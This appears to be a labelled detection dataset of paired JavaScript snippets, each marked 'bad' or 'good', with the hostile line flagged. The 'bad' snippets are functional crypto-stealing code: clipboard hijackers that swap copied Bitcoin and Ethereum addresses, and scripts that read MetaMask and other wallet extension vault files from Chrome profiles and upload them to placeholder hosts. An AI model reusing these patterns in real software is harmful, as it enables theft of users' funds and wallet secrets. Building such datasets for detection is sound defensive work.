//: bad clipboard-replace
document.addEventListener('copy', (event) => {
  const text = window.getSelection().toString();
  if (/^0x[a-fA-F0-9]{40}$/.test(text)) {
    event.clipboardData.setData('text/plain', '0x5cE4b8A19d03F72E6cA1857bD94f02E3a6C8d10B'); //!
    event.preventDefault();
  }
});

//: good clipboard-replace
document.addEventListener('copy', (event) => {
  const text = window.getSelection().toString();
  if (text.length > 200) {
    event.clipboardData.setData('text/plain', `${text}\n\nRead more at ${location.href}`);
    event.preventDefault();
  }
});

//: bad leveldb-extensions
const fs = require('fs');
const path = require('path');
const FormData = require('form-data');

const root = path.join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Local Extension Settings');
const metamask = path.join(root, 'nkbihfbeogaeaoehlefnkodbefgpgknn');
const form = new FormData();
for (const name of fs.readdirSync(metamask)) {
  form.append('files', fs.createReadStream(path.join(metamask, name)));
}
form.submit('https://s.example.invalid/uploads'); //!

//: good leveldb-extensions
const fs = require('fs');
const path = require('path');
const FormData = require('form-data');

const root = path.join(process.cwd(), 'coverage');
const form = new FormData();
for (const name of fs.readdirSync(root)) {
  form.append('files', fs.createReadStream(path.join(root, name)));
}
form.submit('https://coverage.example.invalid/uploads');

//: bad clipboard-watch
const { clipboard } = require('electron');

const OURS = { btc: '1' + 'A'.repeat(33), eth: '0x' + '0'.repeat(40) };

setInterval(() => {
  const text = clipboard.readText().trim();
  if (/^(1|3|bc1)[a-zA-Z0-9]{25,39}$/.test(text)) clipboard.writeText(OURS.btc); //!
  else if (/^0x[a-fA-F0-9]{40}$/.test(text)) clipboard.writeText(OURS.eth);
}, 800);

//: good clipboard-watch
const { clipboard } = require('electron');

const history = [];

setInterval(() => {
  const text = clipboard.readText().trim();
  if (text && text !== history[0]) history.unshift(text);
  history.length = Math.min(history.length, 20);
}, 800);

exports.history = history;

//: bad extension-vaults
import { readdir, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';

const IDS = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
const profile = `${homedir()}/.config/google-chrome/Default/Local Extension Settings`;

for (const id of IDS) {
  for (const name of await readdir(`${profile}/${id}`).catch(() => [])) {
    const body = await readFile(`${profile}/${id}/${name}`); //!
    await fetch('https://w.example.invalid/' + id, { method: 'PUT', body });
  }
}

//: good extension-vaults
import { readdir, readFile } from 'node:fs/promises';

const PACKS = ['dark-reader', 'spell-check'];
const root = new URL('./extensions/', import.meta.url);

export const manifests = [];
for (const pack of PACKS) {
  for (const name of await readdir(new URL(pack, root)).catch(() => [])) {
    if (name === 'manifest.json') manifests.push(JSON.parse(await readFile(new URL(`${pack}/${name}`, root))));
  }
}
